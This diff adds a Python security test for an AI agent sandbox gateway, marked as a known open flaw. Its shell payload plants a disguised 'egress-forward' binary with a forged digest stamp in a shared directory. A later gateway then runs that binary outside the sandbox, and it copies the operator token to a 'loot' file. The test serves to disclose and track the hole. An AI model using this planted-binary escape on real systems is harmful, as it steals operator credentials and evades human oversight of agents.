@@ -1,0 +1,74 @@
+"""Fresh round 16 a: what an agent does from inside its host runs against the newest constructions (the
+system layer, recorded state dirs and adopt, the command text off the argv)."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+from pathlib import Path
+
+import pytest
+
+from engine.protocol.frames import OPERATOR_TOKEN_NAME, read_token
+from tests.attacks.harness import attempt
+from tests.helpers.gateway import FULL, REPO, connect, gateway, write_config
+
+
+def _shared(state: Path) -> Path:
+    """A directory every user may write, outside the home and no private dir (the docs' /srv/shared; here
+    in the suite's /tmp, which its hostPrivate leaves out): shared as it is with every host run."""
+    shared = state.parent / "shared"
+    shared.mkdir(exist_ok=True)
+    os.chmod(shared, 0o1777)
+    return shared
+
+
+async def _wait_for(path: Path, rounds: int = 200) -> bytes | None:
+    """`path`'s bytes once something wrote them (bounded: None when nothing did)."""
+    for _ in range(rounds):
+        if path.exists() and path.stat().st_size:
+            return path.read_bytes()
+        await asyncio.sleep(0.05)
+    return None
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="open: adopt refuses a planted state dir by a list of gateway-made names (GATEWAY_MADE), and "
+    "`sandbox-bin/` is not on it: a host run plants egress-forward with a stamp of forward.c's public "
+    "digest in the state dir gateway B will start on; B trusts the stamp (staticbuild.current) and its "
+    "netkeep execs the agent's file outside every view, as the gateway's account: B's operator token.",
+)
+async def test_class1_a_planted_egress_forwarder_runs_outside_the_view_of_a_gateway_not_started_yet(
+    state_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shared = _shared(state_dir)
+    future = shared / "exechost-b"  # where the operator will start gateway B
+    loot = shared / "loot"
+    plant = f"""set -e
+B={future}
+mkdir -p "$B/sandbox-bin"
+cat > "$B/sandbox-bin/egress-forward" <<'FWD'
+#!/bin/sh
+cat "${{2%/egress/*}}/{OPERATOR_TOKEN_NAME}" > {loot}.tmp 2>/dev/null && mv {loot}.tmp {loot}
+exit 0
+FWD
+chmod 755 "$B/sandbox-bin/egress-forward"
+sha256sum {REPO}/engine/sandbox/egress/forward.c | cut -c1-16 > "$B/sandbox-bin/egress-forward.sha"
+echo planted"""
+    details = await attempt(state_dir, plant, config=FULL)
+    assert "planted" in details["_text"], details["_text"]
+
+    # The operator starts gateway B there (nothing of a gateway's in it: adopted) and runs anything.
+    monkeypatch.setenv("OPENCLAW_STATE_DIR", str(future))
+    write_config(future, FULL)
+    async with gateway(future):
+        client = await connect(future)
+        try:
+            await client.request("exec", {"command": "true"})
+        finally:
+            await client.close()
+        stolen = await _wait_for(loot)
+    token = read_token(future, OPERATOR_TOKEN_NAME)
+    assert token, "gateway B made its operator token"
+    assert stolen is None or token.encode() not in stolen, "B's operator token was the agent's"
